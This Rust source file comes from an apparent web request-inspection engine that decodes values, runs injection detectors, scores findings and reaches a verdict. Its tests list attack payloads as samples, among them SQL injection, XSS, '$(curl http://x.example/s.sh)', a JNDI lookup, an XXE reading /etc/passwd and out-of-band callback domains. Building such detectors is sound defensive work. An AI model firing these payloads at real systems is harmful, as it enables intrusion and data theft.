//! The runtime engine: extraction, decoding, detectors, rules, exclusions
//! and scoring, behind `palisade_core::Inspector`.
//!
//! An [`Engine`] is immutable once built (`DetectConfig::build`), `Send +
//! Sync`, and shared in an `Arc`; a reload builds a new one and swaps it.
//! The head phase (`request_filter`) reads method, target, headers and
//! cookies; the body phase (`request_body_filter`) reads the body. Each
//! phase pushes its findings into `ex.findings` and returns the verdict for
//! everything found so far. The engine always returns what it *would* do;
//! enforcing it (block mode) is the gateway's choice.

use std::borrow::Cow;
use std::collections::BTreeMap;

use palisade_core::{
    Exchange, Finding, InspectError, Inspector, Masked, Phase, Severity, Verdict, sensitive,
};

use crate::config::{DetectConfig, Exclusion, Limits, Sensitivity};
use crate::decode;
use crate::detectors::{self, Hit, Subject};
use crate::error::Diagnostics;
use crate::extract::{self, Extracted, Overflow, Part};
use crate::rules::{RuleAction, RuleInput, RuleSet, RuleValue};

/// The compiled detection engine. See the module documentation.
#[derive(Debug)]
pub struct Engine {
    sensitivity: Sensitivity,
    route_sensitivity: BTreeMap<String, Sensitivity>,
    limits: Limits,
    exclusions: Vec<Exclusion>,
    rules: RuleSet,
}

impl DetectConfig {
    /// Loads the built-in and user rules and validates everything; every
    /// problem is reported at once.
    pub fn build(&self) -> Result<Engine, Diagnostics> {
        let mut diags = Diagnostics::default();
        let mut rules = RuleSet::default();
        if self.builtin_rules {
            match crate::rules::builtin() {
                Ok(r) => rules.extend(r),
                Err(d) => diags.extend(d),
            }
        }
        for path in &self.rules {
            match crate::rules::load_rules(path) {
                Ok(r) => rules.extend(r),
                Err(d) => diags.extend(d),
            }
        }
        let mut ids: Vec<&str> = rules.rules.iter().map(|r| r.id.as_str()).collect();
        ids.sort_unstable();
        for w in ids.windows(2) {
            if w[0] == w[1]
                && let Some(r) = rules.rules.iter().rfind(|r| r.id == w[0])
            {
                diags.push(crate::error::Diagnostic::new(
                    &r.origin,
                    r.line,
                    1,
                    format!("rule id `{}` is defined in more than one file", r.id),
                    "rule ids must be unique across all rule files",
                ));
            }
        }
        let l = &self.limits;
        for (name, v) in [
            ("max_body", l.max_body),
            ("max_values", l.max_values),
            ("max_value_len", l.max_value_len),
            ("max_depth", l.max_depth),
            ("max_headers", l.max_headers),
        ] {
            if v == 0 {
                diags.push(crate::error::Diagnostic::new(
                    "config",
                    0,
                    0,
                    format!("limits.{name} is 0"),
                    "a bound of 0 inspects nothing; remove it to use the default",
                ));
            }
        }
        if !diags.is_empty() {
            return Err(diags);
        }
        Ok(Engine {
            sensitivity: self.sensitivity,
            route_sensitivity: self.route_sensitivity.clone(),
            limits: self.limits.clone(),
            exclusions: self.exclusions.clone(),
            rules,
        })
    }
}

/// A value decoded once, kept for the rules.
struct Decoded<'a> {
    part: Part,
    name: Cow<'a, str>,
    is_key: bool,
    text: Cow<'a, str>,
}

/// What a value's first occurrence in a phase left for identical ones.
struct Memo {
    /// Index of that value (its decoded text is `texts[value]`).
    value: usize,
    layers: decode::Layers,
    lower: String,
    ascii: u128,
    triggers: u32,
    /// The hits of the [`NAME_BLIND`] detectors, by index in
    /// `VALUE_DETECTORS`.
    results: Vec<(usize, Hit)>,
    /// Where the value came from, and its raw text.
    part: Part,
    is_key: bool,
}

/// Value detectors whose result depends only on the value (part, text,
/// key or value), never on its name: an identical value under another name
/// gets the same result. Checked by the `name_blind_detectors` test; a
/// detector that starts reading `Subject::name` must leave this list.
const NAME_BLIND: &[&str] = &[
    "sqli",
    "xss",
    "cmdi",
    "traversal",
    "ssrf",
    "xxe",
    "ssti",
    "ldap",
    "jndi",
    "crlf",
];

/// Distinct values remembered per phase: bounds the search for an
/// identical one.
const MEMO_VALUES: usize = 64;

/// Bit `i` set when `VALUE_DETECTORS[i]` is in [`NAME_BLIND`].
fn name_blind_mask() -> u64 {
    static MASK: std::sync::OnceLock<u64> = std::sync::OnceLock::new();
    *MASK.get_or_init(|| {
        detectors::VALUE_DETECTORS
            .iter()
            .enumerate()
            .take(64)
            .filter(|(_, d)| NAME_BLIND.contains(&d.kind))
            .fold(0, |m, (i, _)| m | 1 << i)
    })
}

impl Default for Engine {
    fn default() -> Self {
        // the default config has no files to read and valid built-ins
        DetectConfig::default().build().unwrap_or_else(|_| Engine {
            sensitivity: Sensitivity::Balanced,
            route_sensitivity: BTreeMap::new(),
            limits: Limits::default(),
            exclusions: Vec::new(),
            rules: RuleSet::default(),
        })
    }
}

impl Engine {
    /// Both phases at once (for the sensor, the harness and `rules test`).
    /// Unlike the gateway, which stops after a blocking head phase, this runs
    /// the body phase too, so every finding is recorded.
    pub fn inspect(&self, ex: &mut Exchange) -> Verdict {
        // the head phase hands the body phase the query and cookie values
        // it decoded, which the body phase's rules read again
        let mut head_args = None;
        let head = self.phase(ex, true, Some(&mut head_args));
        let body = self.phase(ex, false, Some(&mut head_args));
        head.max(body)
    }

    /// The sensitivity that applies to this exchange's route.
    pub fn sensitivity_for(&self, ex: &Exchange) -> Sensitivity {
        ex.route
            .as_ref()
            .and_then(|r| self.route_sensitivity.get(r))
            .copied()
            .unwrap_or(self.sensitivity)
    }

    /// The rules loaded (built-in and user).
    pub fn rules(&self) -> &RuleSet {
        &self.rules
    }

    /// One phase. `carry`, when given, takes the head phase's decoded query
    /// and cookie values to the body phase of the same exchange.
    fn phase(
        &self,
        ex: &mut Exchange,
        head: bool,
        mut carry: Option<&mut Option<Vec<Decoded<'static>>>>,
    ) -> Verdict {
        let mut new: Vec<Finding> = Vec::new();
        let mut forced = Verdict::Allow;
        let body_rules = self.rules.rules.iter().any(|r| !r.head);
        {
            let req = &ex.request;
            let extracted = if head {
                extract::head(req, &self.limits)
            } else {
                extract::body(req, &self.limits)
            };
            // with every head value kept, the query and cookie values are
            // those `extract::head_args` gives, in the same order
            let complete = !extracted.overflows.contains(&Overflow::TooManyValues);
            let mut hits: Vec<(String, Hit)> = Vec::new();
            for d in detectors::REQUEST_DETECTORS {
                (d.run)(req, head, &mut hits);
            }
            for (loc, hit) in hits {
                push_finding(&mut new, &loc, "", hit, None);
            }
            overflow_findings(&extracted, &mut new);
            let decoded = self.detect_values(extracted, &mut new);
            if head
                && complete
                && body_rules
                && let Some(c) = carry.as_deref_mut()
            {
                *c = Some(
                    decoded
                        .iter()
                        .filter(|d| matches!(d.part, Part::Query | Part::Cookie))
                        .map(|d| Decoded {
                            part: d.part,
                            name: Cow::Owned(d.name.to_string()),
                            is_key: d.is_key,
                            text: Cow::Owned(d.text.to_string()),
                        })
                        .collect(),
                );
            }
            // rules see the head's values in the body phase too
            let head_values: Vec<Decoded<'_>>;
            let mut all: Vec<RuleValue<'_>> = decoded
                .iter()
                .map(|d| RuleValue {
                    part: d.part,
                    name: &d.name,
                    is_key: d.is_key,
                    text: &d.text,
                })
                .collect();
            if !head && body_rules {
                head_values = match carry.and_then(Option::take) {
                    Some(v) => v,
                    None => decode_head_args(&extract::head_args(req, &self.limits)),
                };
                all.extend(head_values.iter().map(|d| RuleValue {
                    part: d.part,
                    name: &d.name,
                    is_key: d.is_key,
                    text: &d.text,
                }));
            }
            let prior_score: u32 = ex.findings.iter().map(|f| f.score).sum();
            let mut kinds: Vec<&str> = ex
                .findings
                .iter()
                .chain(new.iter())
                .filter(|f| f.score > 0)
                .map(|f| f.kind.as_str())
                .collect();
            kinds.sort_unstable();
            kinds.dedup();
            let ids: Vec<&str> = ex
                .findings
                .iter()
                .chain(new.iter())
                .map(|f| f.rule_id.as_str())
                .collect();
            let score = prior_score + new.iter().map(|f| f.score).sum::<u32>();
            let input = RuleInput {
                ex,
                values: &all,
                kinds: &kinds,
                rule_ids: &ids,
                score,
            };
            let mut rule_findings = Vec::new();
            for rule in self.rules.rules.iter().filter(|r| r.head == head) {
                let Some((loc, text)) = rule.eval(&input) else {
                    continue;
                };
                let kind = if rule.action == RuleAction::Tag {
                    "tag"
                } else {
                    "rule"
                };
                let mut f = Finding::new(kind, &rule.id, &loc)
                    .score(
                        if matches!(rule.action, RuleAction::Tag | RuleAction::Log) {
                            rule.score.min(if rule.action == RuleAction::Tag {
                                0
                            } else {
                                u32::MAX
                            })
                        } else {
                            rule.score
                        },
                    )
                    .severity(rule.severity)
                    .confidence(100)
                    .phase(if rule.tags.iter().any(|t| t == "recon") {
                        Phase::Recon
                    } else {
                        Phase::Exploitation
                    })
                    .message(if rule.description.is_empty() {
                        format!("rule {}", rule.id)
                    } else {
                        rule.description.clone()
                    });
                f.fragment = fragment_for(&loc, &text);
                match &rule.action {
                    RuleAction::Block => {
                        forced = forced.max(Verdict::block(format!("rule {}", rule.id)))
                    }
                    RuleAction::RateLimit { retry_after_secs } => {
                        forced = forced.max(Verdict::RateLimit {
                            retry_after_secs: *retry_after_secs,
                            reason: format!("rule {}", rule.id),
                        })
                    }
                    RuleAction::Log => {
                        forced = forced.max(Verdict::Log {
                            reason: format!("rule {}", rule.id),
                        })
                    }
                    RuleAction::Score | RuleAction::Tag => {}
                }
                rule_findings.push(f);
            }
            new.extend(rule_findings);
        }
        // exclusions
        if !self.exclusions.is_empty() {
            let route = ex.route.clone();
            let method = ex.request.method.clone();
            let path = ex.request.path().to_string();
            new.retain(|f| {
                !self.exclusions.iter().any(|e| {
                    e.matches(
                        route.as_deref(),
                        &method,
                        &path,
                        &f.rule_id,
                        &f.kind,
                        &f.location,
                    )
                })
            });
            if !matches!(forced, Verdict::Allow) {
                // a forced verdict stands only if its rule's finding survived
                let reason = forced
                    .reason()
                    .unwrap_or("")
                    .trim_start_matches("rule ")
                    .to_string();
                if !new.iter().any(|f| f.rule_id == reason) {
                    forced = Verdict::Allow;
                }
            }
        }
        ex.findings.extend(new);
        self.verdict(ex).max(forced)
    }

    /// Decodes every value and runs the value detectors on it.
    ///
    /// A value identical to one seen before in this phase (same part, same
    /// raw text, both values or both keys) only differs from it by its name:
    /// the detectors that never read the name ([`NAME_BLIND`]) give the same
    /// result, so theirs are reused; the others run again.
    fn detect_values<'a>(
        &self,
        extracted: Extracted<'a>,
        out: &mut Vec<Finding>,
    ) -> Vec<Decoded<'a>> {
        let values = &extracted.values;
        let mut texts: Vec<Cow<'a, str>> = Vec::with_capacity(values.len());
        let mut memo: Vec<Memo> = Vec::new();
        for (idx, v) in values.iter().enumerate() {
            // structural headers only meet JNDI and CRLF, which need a `$`,
            // a line break, an escape or a request line to fire
            if v.part == Part::HeaderStructural && !structural_may_carry(&v.raw) {
                texts.push(v.raw.clone());
                continue;
            }
            let earlier = memo.iter().position(|m| {
                m.part == v.part
                    && m.is_key == v.is_key
                    && values.get(m.value).is_some_and(|w| w.raw == v.raw)
            });
            let (decoded, layers) = earlier
                .and_then(|m| memo.get(m))
                .and_then(|m| Some((texts.get(m.value)?.clone(), m.layers)))
                .unwrap_or_else(|| decode_cow(&v.raw));
            let plain = !v.is_key
                && detectors::is_plain(&decoded)
                && !detectors::name_is_suspicious(&v.name)
                && !detectors::plain_but_suspicious(&decoded);
            // a user agent in the plain RFC 9110 product/comment grammar
            // carries no payload any value detector looks for
            if !plain
                && v.part == Part::Header
                && v.name.eq_ignore_ascii_case("user-agent")
                && detectors::is_clean_user_agent(&decoded)
            {
                let lower = match earlier.and_then(|m| memo.get(m)) {
                    Some(m) => Cow::Borrowed(m.lower.as_str()),
                    None => Cow::Owned(decode::normalize(&decoded)),
                };
                // (the browsers' token first: it settles most user agents)
                if detectors::triggers(&ua_without_engine_token(&lower)) == 0
                    || detectors::triggers(&lower) == 0
                {
                    texts.push(decoded);
                    continue;
                }
            }
            if !plain {
                let mut fresh = None;
                let m: &Memo = match earlier.and_then(|m| memo.get(m)) {
                    Some(m) => m,
                    None => {
                        let lower = decode::normalize(&decoded);
                        fresh.insert(Memo {
                            value: idx,
                            part: v.part,
                            is_key: v.is_key,
                            layers,
                            ascii: detectors::ascii_mask(&lower),
                            triggers: detectors::triggers(&lower),
                            lower,
                            results: Vec::new(),
                        })
                    }
                };
                let subject = Subject {
                    part: v.part,
                    name: &v.name,
                    is_key: v.is_key,
                    raw: &v.raw,
                    decoded: &decoded,
                    lower: &m.lower,
                    layers,
                    ascii: m.ascii,
                    triggers: m.triggers,
                };
                let prior = earlier.is_some().then_some(m.results.as_slice());
                let (found, results) = run_value_detectors(&subject, v, out, None, prior);
                // a value that is base64 of text is inspected as that text too
                if !found {
                    inspect_base64(&subject, v, out);
                }
                // remember the first occurrence
                if let Some(mut f) = fresh
                    && memo.len() < MEMO_VALUES
                {
                    f.results = results;
                    memo.push(f);
                }
            } else if decoded.len() >= 12 {
                // unpadded base64 is made of word characters only: the fast
                // path would wave `JyBvciAxPTEtLQ` (`' or 1=1--`) through
                let subject = Subject {
                    part: v.part,
                    name: &v.name,
                    is_key: v.is_key,
                    raw: &v.raw,
                    decoded: &decoded,
                    lower: &decoded,
                    layers,
                    ascii: 0,
                    triggers: 0,
                };
                inspect_base64(&subject, v, out);
            }
            texts.push(decoded);
        }
        extracted
            .values
            .into_iter()
            .zip(texts)
            .map(|(v, text)| Decoded {
                part: v.part,
                name: v.name,
                is_key: v.is_key,
                text,
            })
            .collect()
    }

    /// The verdict for everything in `ex.findings`.
    fn verdict(&self, ex: &Exchange) -> Verdict {
        let score: u32 = ex.findings.iter().map(|f| f.score).sum();
        let threshold = self.sensitivity_for(ex).threshold();
        let mut top: Vec<&Finding> = ex.findings.iter().filter(|f| f.score > 0).collect();
        if top.is_empty() {
            return Verdict::Allow;
        }
        top.sort_by_key(|f| std::cmp::Reverse(f.score));
        let mut names: Vec<String> = Vec::new();
        for f in top.iter().take(3) {
            let n = format!("{} at {}", f.rule_id, f.location);
            if !names.contains(&n) {
                names.push(n);
            }
        }
        let reason = format!("score {score}/{threshold}: {}", names.join(", "));
        if score >= threshold {
            Verdict::block(reason)
        } else {
            Verdict::Log { reason }
        }
    }
}

/// Whether a structural header value holds anything the header-level
/// detectors (JNDI lookups, CRLF and request-line injection) start from.
fn structural_may_carry(raw: &str) -> bool {
    let b = raw.as_bytes();
    b.iter()
        .any(|&b| matches!(b, b'$' | b'%' | b'\r' | b'\n' | b'\\' | b'&' | b'\0') || !b.is_ascii())
        // `http/` anywhere: look behind each `/`
        || memchr::memchr_iter(b'/', b).any(|p| {
            p >= 4
                && b.get(p - 4..p)
                    .is_some_and(|w| w.eq_ignore_ascii_case(b"http"))
        })
}

/// Decodes a value, borrowing from the request when it can.
fn decode_cow<'a>(raw: &Cow<'a, str>) -> (Cow<'a, str>, decode::Layers) {
    match raw {
        Cow::Borrowed(s) => decode::decode(s),
        Cow::Owned(o) => {
            let (d, l) = decode::decode(o);
            (Cow::Owned(d.into_owned()), l)
        }
    }
}

/// The head's values that body-phase rules read (`args`, `arg_names`,
/// `cookies`: query and cookie values), decoded; the path and headers they
/// read from the request itself.
fn decode_head_args<'a>(extracted: &Extracted<'a>) -> Vec<Decoded<'a>> {
    extracted
        .values
        .iter()
        .filter(|v| matches!(v.part, Part::Query | Part::Cookie))
        .map(|v| Decoded {
            part: v.part,
            name: v.name.clone(),
            is_key: v.is_key,
            text: decode_cow(&v.raw).0,
        })
        .collect()
}

/// Runs the value detectors on the text a value is base64 of, if it is
/// (in every part but structural headers, which never reach here).
fn inspect_base64(subject: &Subject<'_>, v: &extract::Value<'_>, out: &mut Vec<Finding>) {
    if !may_be_base64(subject.decoded) {
        return;
    }
    let Some(b64) = decode::base64_text(subject.decoded) else {
        return;
    };
    let (d2, l2) = decode::decode(&b64);
    let lower2 = decode::normalize(&d2);
    let s2 = Subject {
        decoded: &d2,
        lower: &lower2,
        layers: l2,
        ascii: detectors::ascii_mask(&lower2),
        triggers: detectors::triggers(&lower2),
        ..*subject
    };
    run_value_detectors(&s2, v, out, Some("base64"), None);
}

/// Whether `decode::base64_text` could accept `s`. It trims whitespace at
/// both ends and then needs every byte to be of a base64 alphabet or the `=`
/// padding: a printable byte of neither rules `s` out, and so does a byte up
/// to a space (which may be whitespace, trimmed only at the ends) between two
/// bytes of the alphabet.
fn may_be_base64(s: &str) -> bool {
    let mut alphabet_seen = false;
    let mut gap = false;
    for &b in s.as_bytes() {
        match B64_CLASS[usize::from(b)] {
            B64 => {
                if gap {
                    return false;
                }
                alphabet_seen = true;
            }
            BLANK => gap |= alphabet_seen,
            NOT_B64 => return false,
            _ => {}
        }
    }
    true
}

/// `B64_CLASS`: a byte of a base64 alphabet or `=`; a byte up to a space;
/// another ASCII byte; a byte of a multi-byte character (which may be
/// whitespace): `OTHER`.
const B64: u8 = 0;
const BLANK: u8 = 1;
const NOT_B64: u8 = 2;
const OTHER: u8 = 3;

static B64_CLASS: [u8; 256] = {
    let mut t = [OTHER; 256];
    let mut c = 0;
    while c < 128 {
        let b = c as u8;
        t[c] = if b <= b' ' {
            BLANK
        } else if b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'=') {
            B64
        } else {
            NOT_B64
        };
        c += 1;
    }
    t
};

/// A user agent without the `(KHTML, like Gecko)` token every WebKit and
/// Blink browser sends: its `like` is not SQL, but any other trigger word in
/// the user agent still counts.
fn ua_without_engine_token(lower: &str) -> String {
    lower.replace("(khtml, like gecko)", "")
}

/// Runs the value detectors; whether any fired, and the hits of the
/// [`NAME_BLIND`] ones (taken from `prior` when given: an identical value's).
fn run_value_detectors(
    s: &Subject<'_>,
    v: &extract::Value<'_>,
    out: &mut Vec<Finding>,
    via: Option<&str>,
    prior: Option<&[(usize, Hit)]>,
) -> (bool, Vec<(usize, Hit)>) {
    let mut any = false;
    let mut loc: Option<String> = None;
    let mut blind_hits = Vec::new();
    let blind_mask = name_blind_mask();
    for (i, d) in detectors::VALUE_DETECTORS.iter().enumerate() {
        if !(d.applies)(s) {
            continue;
        }
        let blind = i < 64 && blind_mask & (1 << i) != 0;
        let hit = match prior {
            Some(p) if blind => p.iter().find(|(j, _)| *j == i).map(|(_, h)| h.clone()),
            _ => (d.run)(s),
        };
        if let Some(hit) = hit {
            let l = loc.get_or_insert_with(|| v.location());
            if blind {
                blind_hits.push((i, hit.clone()));
            }
            push_finding(out, l, &v.name, hit, via);
            any = true;
        }
    }
    (any, blind_hits)
}

fn fragment_for(location: &str, text: &str) -> Masked {
    let name = location.rsplit('.').next().unwrap_or(location);
    if sensitive::is_secret_key(name)
        || location == "header.authorization"
        || location == "header.proxy-authorization"
    {
        Masked::new(&sensitive::mask_secret(text))
    } else if sensitive::is_card_key(name) {
        Masked::new(&sensitive::mask_pan(text))
    } else {
        Masked::truncated(text, 120)
    }
}

fn push_finding(out: &mut Vec<Finding>, location: &str, _name: &str, hit: Hit, via: Option<&str>) {
    if out
        .iter()
        .any(|f| f.rule_id == hit.rule_id && f.location == location)
    {
        return;
    }
    let score = hit.score();
    let message = match via {
        Some(v) => format!("{} (inside {v})", hit.message),
        None => hit.message.into_owned(),
    };
    let mut f = Finding::new(hit.kind, hit.rule_id, location)
        .score(score)
        .severity(hit.severity)
        .confidence(hit.confidence)
        .phase(hit.phase)
        .message(message);
    f.fragment = fragment_for(location, hit.fragment.as_deref().unwrap_or(""));
    out.push(f);
}

fn overflow_findings(ex: &Extracted<'_>, out: &mut Vec<Finding>) {
    for o in &ex.overflows {
        let (rule, loc, sev, conf, msg): (&str, String, Severity, u8, String) = match o {
            Overflow::TooManyValues => (
                "limits.values",
                "request".into(),
                Severity::Medium,
                80,
                "more values than the inspection bound".into(),
            ),
            Overflow::TooDeep => (
                "limits.depth",
                "body".into(),
                Severity::Medium,
                80,
                "nesting deeper than the inspection bound".into(),
            ),
            Overflow::ValueTooLong(l) => (
                "limits.value_length",
                l.clone(),
                Severity::Low,
                70,
                "value longer than the inspection bound; inspected in part".into(),
            ),
            Overflow::BodyTruncated => (
                "limits.body",
                "body".into(),
                Severity::Low,
                60,
                "body larger than the inspection bound; inspected in part".into(),
            ),
            Overflow::PartCharset(cs) => {
                let (sev, conf) =
                    crate::detectors::protocol::charset_risk(cs).unwrap_or((Severity::Low, 60));
                (
                    "protocol.charset",
                    "body".into(),
                    sev,
                    conf,
                    format!("multipart part charset {cs} is not inspected as such"),
                )
            }
            Overflow::InvalidBody(why) => (
                "protocol.invalid_body",
                "body".into(),
                Severity::Low,
                70,
                (*why).to_string(),
            ),
        };
        if out.iter().any(|f| f.rule_id == rule && f.location == loc) {
            continue;
        }
        let hit = Hit::new(
            if rule.starts_with("limits") {
                "limits"
            } else {
                "protocol"
            },
            "",
            sev,
            conf,
            "",
        );
        out.push(
            Finding::new(hit.kind, rule, &loc)
                .score(hit.score())
                .severity(sev)
                .confidence(conf)
                .phase(Phase::Probing)
                .message(msg),
        );
    }
}

impl Inspector for Engine {
    fn name(&self) -> &'static str {
        "detect"
    }

    fn request_filter(&self, ex: &mut Exchange) -> Result<Verdict, InspectError> {
        Ok(self.phase(ex, true, None))
    }

    fn request_body_filter(&self, ex: &mut Exchange) -> Result<Verdict, InspectError> {
        Ok(self.phase(ex, false, None))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use palisade_core::{Body, RequestPart};
    use proptest::prelude::*;

    /// `decode::normalize` as it was before it was rewritten for speed.
    fn normalize_reference(s: &str) -> String {
        fn push_space(out: &mut String, last_space: &mut bool) {
            if !*last_space {
                out.push(' ');
                *last_space = true;
            }
        }
        let utf8_len = |b: u8| match b {
            0x00..=0x7F => 1,
            0xC0..=0xDF => 2,
            0xE0..=0xEF => 3,
            _ => 4,
        };
        let mut out = String::with_capacity(s.len());
        let b = s.as_bytes();
        let mut i = 0;
        let mut last_space = false;
        while i < b.len() {
            let c = b[i];
            if c == b'/' && b.get(i + 1) == Some(&b'*') {
                let bang = b.get(i + 2) == Some(&b'!');
                let end =
                    memchr::memmem::find(b.get(i + 2..).unwrap_or(&[]), b"*/").map(|e| i + 2 + e);
                if bang {
                    let mut j = i + 3;
                    while b.get(j).is_some_and(u8::is_ascii_digit) {
                        j += 1;
                    }
                    i = j;
                    push_space(&mut out, &mut last_space);
                    continue;
                }
                push_space(&mut out, &mut last_space);
                i = end.map_or(b.len(), |e| e + 2);
                continue;
            }
            if c == b'*' && b.get(i + 1) == Some(&b'/') {
                push_space(&mut out, &mut last_space);
                i += 2;
                continue;
            }
            if c.is_ascii_whitespace() || c == 0x0b || (c < 0x20) || c == 0x7f {
                if c != 0 {
                    push_space(&mut out, &mut last_space);
                }
                i += 1;
                continue;
            }
            if c < 0x80 {
                out.push(char::from(c.to_ascii_lowercase()));
                last_space = false;
                i += 1;
                continue;
            }
            let ch_len = utf8_len(c);
            if let Some(chunk) = s.get(i..i + ch_len) {
                for ch in chunk.chars() {
                    if ch.is_whitespace() {
                        push_space(&mut out, &mut last_space);
                    } else {
                        for l in ch.to_lowercase() {
                            out.push(l);
                        }
                        last_space = false;
                    }
                }
            }
            i += ch_len.max(1);
        }
        out
    }

    proptest! {
        #[test]
        fn normalize_is_unchanged(s in "(?s).{0,48}") {
            prop_assert_eq!(decode::normalize(&s), normalize_reference(&s));
        }

        #[test]
        fn normalize_is_unchanged_on_comments(
            s in "([aZ0-9 \\t\\n\\x00\\x0b\\x7f!*/é\u{a0}\u{3000}\u{130}Σ]|/\\*!?|\\*/){0,24}"
        ) {
            prop_assert_eq!(decode::normalize(&s), normalize_reference(&s));
        }

        #[test]
        fn base64_precheck_only_drops_what_is_not_base64(
            s in "[A-Za-z0-9+/=_ \\t\\x0b\\x01'\";:.é\u{3000}\u{a0}-]{0,28}"
        ) {
            if !may_be_base64(&s) {
                prop_assert!(decode::base64_text(&s).is_none(), "{:?}", s);
            }
        }
    }

    #[test]
    fn base64_precheck_keeps_base64() {
        for s in [
            "JyBvciAxPTEtLQ",
            "JChpZCk=",
            " JyBPUiAxPTEgLS0gLQ== ",
            "\u{3000}JChpZCk=\t",
            "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg",
        ] {
            assert!(may_be_base64(s), "{s:?}");
            assert!(decode::base64_text(s).is_some(), "{s:?}");
        }
        for s in [
            "O'Brien",
            "a b c d e f g h",
            "x;y",
            "Please select the union plan",
        ] {
            assert!(!may_be_base64(s), "{s:?}");
        }
    }

    /// The detectors reused across identical values must not read the name.
    #[test]
    fn name_blind_detectors() {
        let payloads = [
            "1' or '1'='1",
            "x' union select password from users--",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "; cat /etc/passwd",
            "$(curl http://x.example/s.sh)",
            "../../../../etc/passwd",
            "http://127.0.0.1/admin",
            "gopher://evil.example:70/_x",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            "{{7*7}}",
            "${jndi:ldap://x.example/a}",
            "*)(uid=*))(|(uid=*",
            "a\r\nSet-Cookie: x=1",
            "{\"$where\": \"sleep(100)\"}",
            "Please select the union plan; O'Brien's order",
            "https://shop.example.com/success?session_id={CHECKOUT_SESSION_ID}",
            "Drop off at the back door, ring twice",
            "/v1/checkout/sessions",
            "Café latte x0",
        ];
        let names = [
            "q",
            "__proto__",
            "constructor.prototype.x",
            "class.module.classLoader",
            "java.lang.Runtime",
            "$where",
            "url",
            "user-agent",
        ];
        let parts = [
            Part::Query,
            Part::Json,
            Part::Header,
            Part::Path,
            Part::Form,
        ];
        for d in detectors::VALUE_DETECTORS
            .iter()
            .filter(|d| NAME_BLIND.contains(&d.kind))
        {
            for raw in payloads {
                for part in parts {
                    let first = format!(
                        "{:?}",
                        detectors::test_util::run_in(d.run, part, names[0], raw)
                    );
                    for name in &names[1..] {
                        let other =
                            format!("{:?}", detectors::test_util::run_in(d.run, part, name, raw));
                        assert_eq!(first, other, "{} on {raw:?} named {name}", d.kind);
                    }
                }
            }
        }
    }

    fn exchange(method: &str, target: &str, ct: Option<&str>, body: &str) -> Exchange {
        let mut headers = vec![
            ("Host".to_string(), "api.example".to_string()),
            ("User-Agent".to_string(), "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36".to_string()),
            ("Cookie".to_string(), "sid=abc; theme=x.oast.pro".to_string()),
        ];
        if let Some(ct) = ct {
            headers.push(("Content-Type".to_string(), ct.to_string()));
        }
        Exchange {
            request: RequestPart {
                method: method.into(),
                target: target.into(),
                headers,
                body: Body::new(body.as_bytes().to_vec()),
                ..Default::default()
            },
            ..Default::default()
        }
    }

    /// `inspect` hands the head's query and cookie values to the body phase;
    /// the phases run apart (as the gateway runs them) find the same.
    #[test]
    fn inspect_matches_separate_phases() {
        let many = (0..40)
            .map(|i| format!("k{i}=v{i}"))
            .collect::<Vec<_>>()
            .join("&");
        let cases = [
            exchange(
                "GET",
                "/v1/x?q=cb.oast.pro&sid=1&n=1%27+or+%271%27%3D%271&n=1%27+or+%271%27%3D%271",
                None,
                "",
            ),
            exchange(
                "POST",
                "/v1/x?PHPSESSID=1&r=document.cookie",
                Some("application/json"),
                r#"{"a":"x.interact.sh","b":"x.interact.sh","c":{"a":"1' or '1'='1"}}"#,
            ),
            exchange(
                "POST",
                &format!("/v1/x?{many}&q=cb.oast.pro"),
                Some("application/x-www-form-urlencoded"),
                "a=1&b=cb.oast.pro",
            ),
        ];
        for limits in [
            Limits::default(),
            Limits {
                max_values: 12,
                ..Limits::default()
            },
        ] {
            let engine = DetectConfig {
                limits: limits.clone(),
                ..DetectConfig::default()
            }
            .build()
            .unwrap_or_else(|d| panic!("{d}"));
            for ex in &cases {
                let mut both = ex.clone();
                let v = engine.inspect(&mut both);
                let mut apart = ex.clone();
                let h = engine.request_filter(&mut apart).unwrap_or(Verdict::Allow);
                let b = engine
                    .request_body_filter(&mut apart)
                    .unwrap_or(Verdict::Allow);
                assert_eq!(v, h.max(b));
                assert_eq!(both.findings, apart.findings);
                assert!(
                    both.findings
                        .iter()
                        .any(|f| f.rule_id == "builtin.oob.callback_domain")
                );
            }
        }
    }
}
